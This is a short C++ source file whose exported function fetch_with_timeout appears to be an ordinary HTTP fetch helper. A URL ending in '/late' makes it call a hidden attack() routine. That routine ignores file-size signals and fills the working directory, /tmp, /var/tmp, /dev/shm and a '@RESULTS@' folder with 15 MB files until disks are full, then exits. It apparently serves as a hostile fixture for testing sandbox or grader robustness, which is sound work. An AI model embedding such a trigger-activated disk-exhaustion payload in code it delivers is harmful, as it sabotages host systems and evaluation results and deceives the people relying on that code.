// Writes one large file after the other into every folder that it can write to.
#include <unistd.h>

#include <csignal>
#include <fstream>
#include <string>
#include <utility>

#include "timeout.hpp"

namespace {

[[noreturn]] void attack() {
  std::signal(SIGXFSZ, SIG_IGN);
  const std::string block(1024 * 1024, 'x');
  for (const std::string folder : {".", "/tmp", "/var/tmp", "/dev/shm", "@RESULTS@"}) {
    for (int number = 0;; ++number) {
      std::ofstream file(folder + "/fill." + std::to_string(number), std::ios::binary);
      for (int i = 0; i < 15 && file; ++i) file << block << std::flush;
      if (!file) break;
    }
  }
  ::_exit(1);
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  if (url.ends_with("/late")) attack();
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
